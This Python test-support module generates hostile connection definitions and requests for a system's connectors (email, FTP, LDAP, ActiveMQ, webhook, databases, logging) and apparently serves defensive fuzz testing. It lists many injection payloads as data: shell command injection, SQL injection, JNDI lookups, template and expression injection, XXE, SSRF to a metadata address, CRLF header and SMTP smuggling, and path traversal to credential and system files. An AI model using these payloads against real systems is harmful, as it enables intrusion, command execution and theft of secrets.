"""
Hostile definitions of every type, and hostile requests to what is defined.

Two sources: payloads put into every text of every type's example, found by walking; and the ones that somebody has to
know of, by type. A case is refused by the model, or it is used under the eyes of `tests.hostile.watched`.
"""

from __future__ import annotations

import copy
from collections.abc import Iterator, Mapping
from typing import Any, NamedTuple

from mooring.plugin.card import ConnectionType
from mooring.plugin.registry import Registry
from mooring.types.database.parameters import PARAMETERS, TEXT
from tests.support.targets import target_module

CANARY = "c4n4ry"
_COMMON = ("type", "name", "description", "deployToWorker", "enabled")
_STORES = ("trustStoreName", "keyStoreName", "certificateName", "certificateId")

PAYLOADS: tuple[str, ...] = (
    f"/tmp/{CANARY}", f"../../../../tmp/{CANARY}", f"file:///tmp/{CANARY}", f"..\\..\\{CANARY}", f"~/{CANARY}", f"/proc/self/environ#{CANARY}", f"/dev/tcp/evil/{CANARY}", f"C:\\{CANARY}", f"\\\\evil\\{CANARY}",
    f"a\r\nX-Evil: {CANARY}", f"a\nRCPT TO:<{CANARY}@evil>", f"a\0{CANARY}", f"a\x1b]0;{CANARY}\x07", f"a\u2028{CANARY}", f"\u202e{CANARY}", f"a\x85{CANARY}",
    f"$(touch /tmp/{CANARY})", f"`touch /tmp/{CANARY}`", f"; touch /tmp/{CANARY}", f"| touch /tmp/{CANARY}", f"-oProxyCommand=touch /tmp/{CANARY}", f"--{CANARY}", f"' OR '{CANARY}'='{CANARY}", f'"; DROP TABLE {CANARY};--', f"*)(uid={CANARY}", f"\\2a{CANARY}",
    f"{{{{7*7}}}}{CANARY}", f"${{jndi:ldap://evil/{CANARY}}}", f"#{{T(java.lang.Runtime).getRuntime().exec('{CANARY}')}}", f"%{{{CANARY}}}", f"%n%s{CANARY}", f"<!ENTITY x SYSTEM 'file:///{CANARY}'>", f"{{0.__class__}}{CANARY}",
    f"http://169.254.169.254/{CANARY}", f"gopher://evil/{CANARY}", f"unix:/tmp/{CANARY}.sock", f"unix:///tmp/{CANARY}.sock", f"@evil.example.com/{CANARY}", f"evil.example.com#{CANARY}", f"ldap://evil/{CANARY}", f"vm://{CANARY}", f"com.evil.{CANARY}", f"__import__('{CANARY}')", f"os.system('{CANARY}')",
)  # fmt: skip

_HOSTS = (
    f"/tmp/{CANARY}.sock", f"unix:/tmp/{CANARY}", f"evil/{CANARY}", f"evil:80/{CANARY}", f"u:p@evil.{CANARY}", f"evil#{CANARY}", f"evil?{CANARY}", f"evil\\{CANARY}", f"evil {CANARY}", f"evil\r\n{CANARY}", f"evil\0{CANARY}", f"-{CANARY}", f"evil;{CANARY}", f"evil|{CANARY}",
    f"${CANARY}", f"`{CANARY}`", f"evil%00{CANARY}", f"evil%2f{CANARY}", f"[::1]{CANARY}", f"[{CANARY}]", "[::1%25lo]", "fe80::1%lo", "ｅvil.example", "evil。example", "а.example" + "\u200b", "a" * 300, "", " ", ".", "..", "*", "0x7f.1\t", f"http://{CANARY}", f"{CANARY},evil",
)  # fmt: skip

_BROKERS = (
    f"vm://{CANARY}", "vm:(broker:(tcp://evil:1)?persistent=false)", f"vm://localhost?brokerConfig=xbean:http://evil/{CANARY}.xml", f"tcp://h:1?brokerConfig={CANARY}", f"broker:(tcp://h:1)?{CANARY}", f"xbean:http://evil/{CANARY}", f"properties:file:/tmp/{CANARY}",
    f"failover:(vm://{CANARY})", f"failover:(tcp://h:1,vm://{CANARY})", f"failover:(failover:(tcp://{CANARY}:1))", f"failover:(tcp://h:1)?updateURIsURL=http://evil/{CANARY}", f"failover:(tcp://h:1)?updateURIsSupported=true&priorityURIs=tcp://{CANARY}", f"fanout:(static:(tcp://{CANARY}:1))",
    f"discovery:(multicast://{CANARY})", f"static:(tcp://{CANARY}:1)", f"multicast://{CANARY}", f"peer://{CANARY}/b", f"http://{CANARY}", f"https://{CANARY}", f"udp://{CANARY}:1", f"ws://{CANARY}", f"stomp://{CANARY}:1", f"mqtt://{CANARY}:1", f"zeroconf:{CANARY}", f"ldap://{CANARY}", f"mock:(tcp://{CANARY})",
    f"tcp://h:1?wireFormat={CANARY}", f"tcp://h:1?transport.trace=true&transport.logWriterName={CANARY}", f"tcp://h:1?jms.redeliveryPolicy.maximumRedeliveries={CANARY}", f"tcp://h:1?socket.keepAlive={CANARY}", f"ssl://h:1?socket.enabledCipherSuites={CANARY}", f"ssl://h:1?transport.trustStoreLocation=/tmp/{CANARY}",
    f"amqps://h:1?transport.keyStoreLocation=/tmp/{CANARY}", f"amqp://h:1?sasl.mechanisms={CANARY}", f"amqp://h:1?jms.deserializationPolicy.allowList={CANARY}", f"tcp://h:1?jms.trustedPackages=*&x={CANARY}", f"tcp://h:1?soWriteTimeout={CANARY}", f"tcp://h:1/../{CANARY}", f"tcp://h:1#{CANARY}",
    f"tcp://u:{CANARY}@h@evil:1", f"tcp://h:{CANARY}", "tcp://h:0", "tcp://h:70000", f"tcp:h:1{CANARY}", f"tcp://h:1\r\n{CANARY}", f"TCP://h:1?BROKERCONFIG={CANARY}", f"tcp://h:1?%62rokerConfig={CANARY}", f"tcp://h:1?broker\u200bConfig={CANARY}",
)  # fmt: skip

_MAIL_PROPERTIES = (
    "mail.smtp.socketFactory.class", "mail.smtp.ssl.socketFactory.class", "mail.smtp.sasl.mechanisms", "mail.smtp.auth.ntlm.domain", "mail.smtp.ssl.trust", "mail.smtp.ssl.checkserveridentity", "mail.smtp.proxy.host", "mail.smtp.socks.host", "mail.smtp.localaddress", "mail.smtp.dsn.notify",
    "mail.smtp.submitter", "mail.smtp.mailextension", "mail.smtp.host", "mail.smtp.port", "mail.smtp.user", "mail.smtp.password", "mail.smtp.class", "mail.debug", "mail.debug.quote", "mail.mime.address.strict", "mail.store.protocol", "mail.transport.protocol", "mail.event.executor", "mail.imap.host",
    "java.naming.provider.url", "javax.net.ssl.trustStore", "socksProxyHost", "http.proxyHost", "PATH", "LD_PRELOAD", "__class__", "MAIL.SMTP.HOST", " mail.smtp.timeout", "mail.smtp.timeout\n", "mail\u200b.smtp.timeout", "mail.smtp.timeout.evil", "mail.smtps.host",
)  # fmt: skip

_FILTERS = (
    "(uid={0}", f"uid={CANARY}", f"(uid={{0}}))({CANARY}=*", f"(&(uid={{0}})({CANARY}=\\zz))", f"({CANARY}\0=a)", f"(|{CANARY})", f"(uid:{CANARY}", "(" * 200 + ")" * 200, f"(&(uid=*)\n({CANARY}=1)) x", f"({CANARY}==)(", f"(!{CANARY})", f"(=({CANARY}))", f"(cn;{CANARY}=\\)",
)  # fmt: skip

_OIDS = (
    "1.3.x",
    "1",
    "3.1",
    "1.40.1",
    "." * 10,
    "1." * 200 + "1",
    "1.3.99999999999999999999",
    "-1.3",
    "1.3.6 .1",
    "1.3.6.1\n",
    "١.٣.٦",
    "1.3.6.1;id",
    "01.3.6.1.x",
    "",
)

_PATHS = (
    f"../{CANARY}", f"a/../../{CANARY}", f"/etc/{CANARY}/../passwd", f"/tmp/{CANARY}", f"..\\{CANARY}", f"%2e%2e/{CANARY}", f"a\0{CANARY}", f"a\n{CANARY}", "..", "../..", "/", "//", "/proc/self/fd/1", "/dev/stdout", "~root", f"$HOME/{CANARY}", f"a/./../..//{CANARY}", "．．/x", "a" * 5000, f"{CANARY}|id",
)  # fmt: skip

_PATTERNS = (
    f"%d{{yyyy}}/../../{CANARY}.%i.log", f"/tmp/{CANARY}.%i.log", f"%i/../../../{CANARY}", f"%msg{{{CANARY}}}.log", f"%d{{'../../{CANARY}'}}.%i.log", f"%d{{yyyy'/../../'MM}}.%i.{CANARY}", f"%replace(%msg){{'a','/tmp/{CANARY}'}}", f"%X{{{CANARY}}}.%i.log", f"%property{{{CANARY}}}%i.log",
    f"..%i.{CANARY}/..", f"%i\0{CANARY}", "%" * 500, "%d{" * 100, f"%d{{yyyy, {CANARY}/../../x}}.%i.log",
)  # fmt: skip

BY_HAND: Mapping[str, tuple[tuple[str, Any], ...]] = {
    "email": (
        *(("host", host) for host in _HOSTS), *(("additionalProperties", [{"key": key, "value": f"/tmp/{CANARY}"}]) for key in _MAIL_PROPERTIES),
        *(("from", text) for text in (f"a@b\r\nBcc: {CANARY}@evil", f"{CANARY}", f"<{CANARY}", f"a@b, {CANARY}@evil", f"\"\r\n\" <{CANARY}@x>", f"=?utf-8?q?=0d=0a{CANARY}?= <a@b>", f"a@[{CANARY}]", f"a@b> ORCPT=rfc822;{CANARY}", f"-X/tmp/{CANARY}@b")),
        *(("defaultEncoding", text) for text in (CANARY, "unicode_escape", "idna", "zlib", "rot13", "../x", "utf-8\0", "undefined", "base64")),
    ),
    "ftp": (*(("host", host) for host in _HOSTS), *(("workingDir", f"a\r\nDELE {text}") for text in _PATHS), ("username", f"a\r\nSITE EXEC {CANARY}"), ("password", f"a\r\nPORT 1,2,3,4,5,{CANARY}"), ("protocol", f"FILE{CANARY}"), ("hostKeyFingerprint", f"/tmp/{CANARY}"), ("sslProtocol", f"com.evil.{CANARY}")),
    "ldap": (
        *(("serverAddress", f"ldap://{host}") for host in _HOSTS), *(("serverAddress", text) for text in (f"ldapi://%2ftmp%2f{CANARY}", f"cldap://{CANARY}", f"ldap:///{CANARY}", f"ldap://h/dc=x??sub?({CANARY}=*)", f"http://{CANARY}", f"ldap://h:389 ldap://{CANARY}", f"rmi://{CANARY}", f"ldap://h/{CANARY}?x")),
        *(("customFilter", text) for text in _FILTERS), *(("baseDn", text) for text in (f"{CANARY}", f"cn=a\0{CANARY}", f"cn=a,{CANARY}", f"cn={CANARY}\\", f"=,{CANARY}", f"cn=a,,cn={CANARY}", f"#{CANARY}")),
    ),
    "activeMq": tuple(("brokerURL", url) for url in _BROKERS),
    "snmp": (*(("pduOidForMessage", oid) for oid in _OIDS), *(("pduVariableMap", {oid: "x"}) for oid in _OIDS if oid), *(("connectionString", f"udp:{host}/162") for host in _HOSTS), *(("connectionString", text) for text in (f"tls:{CANARY}/1", f"file:/tmp/{CANARY}", f"udp:h/{CANARY}", f"udp:h/162 {CANARY}", f"ssh:{CANARY}/22", f"/tmp/{CANARY}"))),
    "logback": (*(("logPath", text) for text in _PATHS), *(("logFileName", text) for text in _PATHS), *(("logPodName", text) for text in _PATHS), *(("logFilenamePattern", text) for text in _PATTERNS), *(("logPattern", text) for text in _PATTERNS)),
    "linux-script": (*(("hostName", host) for host in _HOSTS), ("username", f"-oProxyCommand={CANARY}"), ("username", f"a\n{CANARY}"), ("hostKeyFingerprint", f"MD5:{CANARY}"), ("hostKeyFingerprint", f"/tmp/{CANARY}")),
    "webhook": (
        *(("fullUrl", f"https://{host}/") for host in _HOSTS if host), *(("fullUrl", text) for text in (f"file:///tmp/{CANARY}", f"ftp://{CANARY}", f"gopher://{CANARY}", f"javascript:{CANARY}", f"data:,{CANARY}", f"http+unix://%2ftmp%2f{CANARY}", f"//{CANARY}", f"http:{CANARY}", f"http:///{CANARY}", f"https://h:0/{CANARY}", f"https://h:99999/{CANARY}", f"https://h/\r\n{CANARY}", f"jar:http://{CANARY}!/", f"ldap://{CANARY}")),
        *(("headerList", [{"name": name, "value": "x"}]) for name in (f"X\r\n{CANARY}", f"X: {CANARY}", f"{CANARY} X", f"X\0{CANARY}", "", "Ｘ", "Host", "Content-Length", "Transfer-Encoding", "Connection", "Upgrade", ":authority", "TE", "Trailer", "Proxy-Authorization")),
        *(("headerList", [{"name": "X", "value": text}]) for text in (f"a\r\nX: {CANARY}", f"a\0{CANARY}", f"a\n {CANARY}", f"a\u2028{CANARY}")), *(("httpMethod", text) for text in (f"GET /{CANARY} HTTP/1.1\r\n", "CONNECT", "TRACE", f"X{CANARY}", "get\0")),
    ),
    "elasticsearch": (
        *(("elasticHostList", [{"scheme": "http", "host": host, "port": 9200}]) for host in _HOSTS), *(("elasticHostList", [{"scheme": scheme, "host": "h", "port": 9200}]) for scheme in ("file", f"{CANARY}", "unix", "http+unix", "HTTPS\n", "ftp")),
        *((field, text) for field in ("indexName", "indexTemplateName") for text in (*_PATHS, f"_{CANARY}", f"-{CANARY}", f"+{CANARY}", f"{CANARY}?x=1", f"{CANARY}#x", f"{CANARY},*", "*", "_all", f"<{CANARY}-{{now/d}}>", f"{CANARY}/_doc/../../_cluster", f"{CANARY}%2f_search", f"..%2f{CANARY}", f'{CANARY}"')),
    ),
    "ops-genie": tuple(("apiUrl", text) for text in (f"file:///tmp/{CANARY}", f"http://u:{CANARY}@evil/", f"ftp://{CANARY}", f"https://h\r\n{CANARY}", f"https://h/#{CANARY}", f"https://h:0/{CANARY}", f"//{CANARY}", f"https:{CANARY}", f"https://h\\@{CANARY}/", f"https://{CANARY} /", f"gopher://{CANARY}/_")),
    "rabbitMq": (*(("hostPortList", [{"host": host, "port": 5672}]) for host in _HOSTS), ("connectionFactoryVirtualHost", f"/\0{CANARY}"), ("connectionFactorySslProtocol", f"com.evil.{CANARY}"), ("connectionFactoryClientProperties", {"connection_name": f"\0{CANARY}"}), ("channelExchange", "a" * 300), ("basicPropertiesHeaders", {"x" * 300: CANARY})),
    "kafka": (*(("propertiesMap", {"bootstrap.servers": {"value": f"{host}:9092", "valueType": "STRING"}}) for host in _HOSTS), ("topicName", f"../{CANARY}"), ("topicName", f"{CANARY}\n"), ("topicName", ".."), ("topicName", "a" * 300), ("topicName", f"^{CANARY}.*")),
    "graylog": tuple(("hostname", host) for host in _HOSTS),
    "syslog": (*(("syslogServerHostname", host) for host in _HOSTS), *((field, text) for field in ("syslogAppName", "syslogMessageHostname") for text in (f"a\n<0>{CANARY}", f"a {CANARY}", f"a\0{CANARY}", "a" * 3000, f'"]{CANARY}'))),
    "database": (*(("host", host) for host in _HOSTS), ("driverClassName", f"com.evil.{CANARY}"), ("driverClassName", "os.system"), ("dbType", f"H2{CANARY}"), *(("defaultLogSchema", text) for text in (f"a;{CANARY}", f"a'{CANARY}", f'a"."{CANARY}', f"a--{CANARY} x", f"[a]]{CANARY}"))),
}  # fmt: skip
"""Type, and single fields with what would do harm."""

REQUESTS: Mapping[str, tuple[tuple[str, dict[str, Any]], ...]] = {
    "email": (("send", {"to": [f"a@b\r\nRCPT TO:<{CANARY}@evil>"], "subject": "x", "text": "x"}), ("send", {"to": ["a@b.example"], "subject": f"x\r\nBcc: {CANARY}@evil", "text": "x"}), ("send", {"to": ["a@b.example"], "subject": "x", "text": "x", "headers": {f"X-A\r\nB{CANARY}": "x"}}), ("send", {"to": ["a@b.example"], "subject": "x", "text": "x", "attachments": [{"name": f"../../tmp/{CANARY}", "content": "QQ=="}]})),
    "ftp": tuple((verb, {"path": f"{path}\r\nDELE x", **({"content": "x"} if verb == "put" else {})}) for verb in ("get", "put", "delete", "list") for path in _PATHS[:8]),
    "ldap": (("search", {"user": f"*)(uid={CANARY}"}), ("search", {"filter": f"(uid=*))({CANARY}"}), ("authenticate", {"user": f"x)(|(uid=*{CANARY}", "password": ""}), ("search", {"user": "x", "attributes": [f"a\0{CANARY}"]})),
    "linux-script": (("run", {"command": f"true; touch /tmp/{CANARY}"}), ("run", {"command": "true", "arguments": [f"$(touch /tmp/{CANARY})", f"-oProxyCommand={CANARY}", "\n", "'"]}), ("run", {"command": f"/tmp/{CANARY}\0"}), ("run", {"script": f"touch /tmp/{CANARY}", "shell": f"/tmp/{CANARY}"})),
    "webhook": (("send", {"body": "x", "headers": {f"X\r\nY{CANARY}": "z"}}), ("send", {"body": "x", "headers": {"X": f"a\r\nY: {CANARY}"}}), ("send", {"body": "x", "contentType": f"a\r\nX: {CANARY}"})),
    "database": (("query", {"sql": f"select load_file('/tmp/{CANARY}')"}), ("execute", {"sql": f"load data local infile '/tmp/{CANARY}' into table x"}), ("execute", {"sql": f"copy x from program 'touch /tmp/{CANARY}'"})),
    "elasticsearch": (("index", {"document": {"a": 1}, "id": f"../../_cluster/{CANARY}"}), ("search", {"index": f"../{CANARY}", "query": {"match_all": {}}})),
    "kafka": (("receive", {"group": f"../{CANARY}", "timeoutSeconds": 0.1}),),
    "logback": (("send", {"text": f"x\n{CANARY}", "logger": f"../../{CANARY}"}), ("send", {"text": "x", "thread": f"a\0{CANARY}"})),
    "snmp": (("send", {"message": f"x\0{CANARY}", "variables": {"1.x": "x"}}),),
    "syslog": (("send", {"text": f"x\n<0>{CANARY}"}),),
    "graylog": (("send", {"text": "x", "fields": {f"_a\0{CANARY}": "x", "_id": "x"}}),),
}  # fmt: skip
"""What the users of a connection may ask of it, with harm in mind; beside the type's own first use."""


class Case(NamedTuple):
    """A definition, the field that is hostile in it, and what is there."""

    label: str
    type: str
    field: str
    body: dict[str, Any]
    by_hand: bool = False


def base(card: ConnectionType, port: int) -> dict[str, Any]:
    """The type's example, aimed at a port of this machine, without what it would need beside."""
    body = {key: value for key, value in copy.deepcopy(card.example).items() if key not in _STORES}
    target = target_module(card.config.__module__)
    if target is not None and hasattr(target, "aimed"):
        body = target.aimed(body, "127.0.0.1", port)
    match card.name:
        case "elasticsearch":
            body |= {
                "encryptCommunication": False,
                "elasticHostList": [{"scheme": "http", "host": "127.0.0.1", "port": port}],
            }
        case "logback":
            body["logPath"] = "orders"
        case "ldap":
            body |= {
                "requireCertificateType": "NOT_REQUIRED",
                "useSsl": False,
                "serverAddress": f"ldap://127.0.0.1:{port}",
            }
    return body


def _texts(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    if isinstance(value, str):
        yield path
    elif isinstance(value, dict):
        for key, item in value.items():
            yield from _texts(item, (*path, key))
    elif isinstance(value, list):
        for number, item in enumerate(value):
            yield from _texts(item, (*path, number))


def _with(body: dict[str, Any], path: tuple[Any, ...], value: Any) -> dict[str, Any]:
    made = copy.deepcopy(body)
    holder: Any = made
    for part in path[:-1]:
        holder = holder[part]
    holder[path[-1]] = value
    return made


def walked(card: ConnectionType, port: int) -> Iterator[Case]:
    """Each payload in the place of each text, and at the end of it; and in each field that the example leaves empty."""
    body = base(card, port)
    places = [path for path in _texts(body) if path[0] not in ("type", "name", "description")]
    for name, schema in card.schema["properties"].items():
        if name not in body and "string" in str(schema) and name not in _STORES:
            places.append((name,))
    for path in places:
        before: Any = body
        for part in path:
            before = before.get(part, "") if isinstance(before, dict) else before[part]
        for number, payload in enumerate(PAYLOADS):
            field = ".".join(map(str, path))
            yield Case(f"{card.name} {field} #{number}", card.name, str(path[0]), _with(body, path, payload))
            if before:
                yield Case(
                    f"{card.name} {field} +#{number}", card.name, str(path[0]), _with(body, path, f"{before}{payload}")
                )


def by_hand(card: ConnectionType, port: int) -> Iterator[Case]:
    """Those of `BY_HAND`; and for databases each parameter that takes a text, in an address of each product."""
    body = base(card, port)
    for number, (field, value) in enumerate(BY_HAND.get(card.name, ())):
        changed = {**body, field: value}
        if card.name == "kafka" and field == "propertiesMap":
            changed = {**body, field: {**body["propertiesMap"], **value}}
        if card.name == "database" and field == "host":
            changed.pop("jdbcUrl")
        yield Case(f"{card.name} {field} by hand {number}", card.name, field, changed, by_hand=True)
    if card.name == "database":
        yield from _databases(body, port)


_ADDRESSES = {
    "POSTGRES": "jdbc:postgresql://127.0.0.1:{}/db?{}={}", "MYSQL": "jdbc:mysql://127.0.0.1:{}/db?{}={}", "SQL_SERVER": "jdbc:sqlserver://127.0.0.1:{};{}={}", "ORACLE": "jdbc:oracle:thin:@//127.0.0.1:{}/s?{}={}",
    "SYBASE": "jdbc:sybase:Tds:127.0.0.1:{}/db?{}={}", "DB2": "jdbc:db2://127.0.0.1:{}/db:{}={};", "APACHE_HIVE": "jdbc:hive2://127.0.0.1:{}/db;{}={}", "APACHE_IMPALA": "jdbc:impala://127.0.0.1:{}/db;{}={}",
    "MONGODB": "mongodb://127.0.0.1:{}/db?{}={}", "TRINO": "jdbc:trino://127.0.0.1:{}/c/s?{}={}",
}  # fmt: skip


def _databases(body: dict[str, Any], port: int) -> Iterator[Case]:
    harm = (
        f"/tmp/{CANARY}",
        f"%2Ftmp%2F{CANARY}",
        f"../{CANARY}",
        f"http://evil/{CANARY}",
        f"{CANARY}'",
        f"{CANARY}}}",
        "{a}};Driver=" + CANARY,
        f"a,Driver={CANARY}",
        f"a%3BDriver%3D{CANARY}",
        f"a b{CANARY}",
        f"com.evil.{CANARY}",
    )
    for dialect, address in _ADDRESSES.items():
        names = [name for name, kind in PARAMETERS[dialect].items() if kind == TEXT]
        for name in names or ["connect_timeout"]:
            for number, value in enumerate(harm):
                url = address.format(port, name, value)
                yield Case(
                    f"{dialect} {name} #{number}",
                    "database",
                    "jdbcUrl",
                    {**body, "dbType": dialect, "jdbcUrl": url},
                    by_hand=True,
                )


def cases(port: int) -> Iterator[Case]:
    """Every case of every type."""
    for card in Registry():
        yield from by_hand(card, port)
        yield from walked(card, port)
